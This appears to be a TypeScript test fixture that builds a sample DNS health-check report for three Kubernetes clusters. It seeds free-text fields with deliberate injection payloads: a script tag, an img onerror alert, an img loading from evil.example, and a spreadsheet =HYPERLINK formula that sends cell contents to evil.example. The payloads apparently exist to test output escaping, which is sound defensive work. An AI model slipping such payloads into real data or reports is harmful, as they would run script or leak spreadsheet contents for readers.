/**
 * A small fleet for the report tests, built the way producers build it (makeResult,
 * buildClusterResult, buildFleetReport): three clusters, every status, a muted FAIL, a
 * regression, a check that passes again, coverage gaps, and hostile text (markup, quotes,
 * commas, line breaks, a spreadsheet formula) wherever the schema lets free text in.
 */
import { makeResult } from '../../../../lambdas/core/catalog/index.js';
import type { CheckId } from '../../../../lambdas/core/catalog/index.js';
import { buildClusterResult, buildFleetReport } from '../../../../lambdas/core/results/index.js';
import { reportModel } from '../../../../lambdas/core/report/index.js';
import type { ReportModel } from '../../../../lambdas/core/report/index.js';
import type { CheckResult, ClusterResult, Status } from '../../../../lambdas/core/schema/index.js';

export const HOSTILE = `<script>document.title="pwned"</script>`;
/** An evidence summary with markup, quotes, commas and line breaks. */
export const EVIDENCE_UDP = `2 of 6 pairs blocked, e.g. "node-a" → coredns-1, ingress of sg-0abc ${HOSTILE}\nsecond line, with a comma\r\nthird "quoted" line`;
export const MUTED_REASON = `accepted risk: "legacy" subnet <b>until</b> Q3, owner ops`;
/** A summary a spreadsheet would run as a formula. */
export const FORMULA_SUMMARY = `=HYPERLINK("http://evil.example/?"&A1,"click")`;
export const ACCOUNT_NAME = `Payments "prod" <img src="http://evil.example/x.png">`;
export const GAP_REASON = `AccessDenied: sts:AssumeRole on arn:aws:iam::999999999999:role/fleet-dns <img src=x onerror=alert(1)>`;

const started = { id: 'scan-2', startedAt: '2026-03-02T10:00:00Z' };
const scan = { ...started, finishedAt: '2026-03-02T10:04:00Z' };
const previousScan = { id: 'scan-1', startedAt: '2026-03-01T10:00:00Z', finishedAt: '2026-03-01T10:04:00Z' };

const check = (
  id: CheckId,
  status: Status,
  summary: string,
  extra: Partial<CheckResult> = {},
): CheckResult => ({
  ...makeResult(id, {
    status,
    evidence: status === 'ERROR' || status === 'SKIPPED' ? { reason: summary } : { summary },
  }),
  ...extra,
});

const PROD = {
  accountId: '111122223333',
  accountName: ACCOUNT_NAME,
  region: 'eu-west-1',
  name: 'prod-a',
  version: '1.31',
};
const STAGING = { accountId: '444455556666', region: 'us-east-1', name: 'staging-b' };
const DEV = { accountId: '111122223333', region: 'eu-west-1', name: 'dev-c' };

function currentClusters(): ClusterResult[] {
  const prod = buildClusterResult(PROD, [
    check('NET-SG-DNS-UDP', 'FAIL', EVIDENCE_UDP, {
      firstSeenAt: '2026-03-02T10:01:00Z',
      lastTransitionAt: '2026-03-02T10:01:00Z',
    }),
    check('NET-SG-DNS-TCP', 'PASS', 'every client ENI may send TCP/53 to every CoreDNS pod'),
    check('K8S-COREDNS-PODS', 'WARN', 'coredns-1 restarted 3 times in 24 h (OOMKilled)'),
    check('DNS-EXTERNAL', 'ERROR', 'probe pod Pending: ImagePullBackOff for runner:1'),
    check('K8S-NODELOCAL-DNS', 'SKIPPED', 'NodeLocal DNSCache is not installed'),
    check('NET-NACL-DNS-UDP', 'FAIL', 'acl-0123 rule 100 denies UDP 32768-60999 inbound', {
      muted: true,
      mutedReason: MUTED_REASON,
      firstSeenAt: '2026-02-01T00:00:00Z',
      lastTransitionAt: '2026-02-01T00:00:00Z',
    }),
    check('DNS-INTERNAL', 'PASS', 'kubernetes.default answered 10.100.0.1 in 2 ms'),
  ]);
  const staging = buildClusterResult(STAGING, [
    check('DNS-LATENCY', 'FAIL', FORMULA_SUMMARY),
    check('DNS-INTERNAL', 'PASS', 'answered'),
    check('NET-VPC-DNS-ATTRIBUTES', 'PASS', '-both attributes enabled'),
  ]);
  const dev = buildClusterResult(DEV, [
    check('DNS-INTERNAL', 'PASS', 'answered'),
    check('NET-VPC-DNS-ATTRIBUTES', 'PASS', 'both attributes enabled'),
  ]);
  return [prod, staging, dev];
}

/** The previous scan: prod-a's UDP check passed and its TCP check failed; staging-b's latency warned; no dev-c yet. */
function previousClusters(): ClusterResult[] {
  const prod = buildClusterResult(
    PROD,
    [
      check('NET-SG-DNS-UDP', 'PASS', 'all pairs allowed'),
      check('NET-SG-DNS-TCP', 'FAIL', 'sg-0abc blocks TCP/53'),
      check('K8S-COREDNS-PODS', 'WARN', 'one replica'),
      check('NET-NACL-DNS-UDP', 'FAIL', 'acl-0123 rule 100', { muted: true, mutedReason: MUTED_REASON }),
      check('DNS-INTERNAL', 'PASS', 'answered'),
    ],
    { scan: previousScan },
  );
  const staging = buildClusterResult(STAGING, [check('DNS-LATENCY', 'WARN', 'p99 140 ms')], {
    scan: previousScan,
  });
  return [prod, staging];
}

/** The fleet: scan-2 of three clusters, two coverage gaps, and scan-1 as the previous scan. */
export function fleetModel(options: { previous?: boolean } = {}): ReportModel {
  const report = buildFleetReport({
    scan,
    clusters: currentClusters(),
    gaps: [
      { scope: 'account', accountId: '999999999999', reason: GAP_REASON },
      {
        scope: 'cluster',
        accountId: '111122223333',
        region: 'ap-south-1',
        clusterId: '111122223333:ap-south-1:batch-x',
        reason: 'private endpoint not routable from the scanner',
      },
    ],
  });
  return reportModel(report, options.previous === false ? undefined : previousClusters());
}

/** Unmuted results per status and muted ones, counted by hand from the fixtures above. */
export const EXPECTED_COUNTS = {
  FAIL: 2,
  ERROR: 1,
  WARN: 1,
  SKIPPED: 1,
  PASS: 6,
  muted: 1,
  total: 12,
} as const;
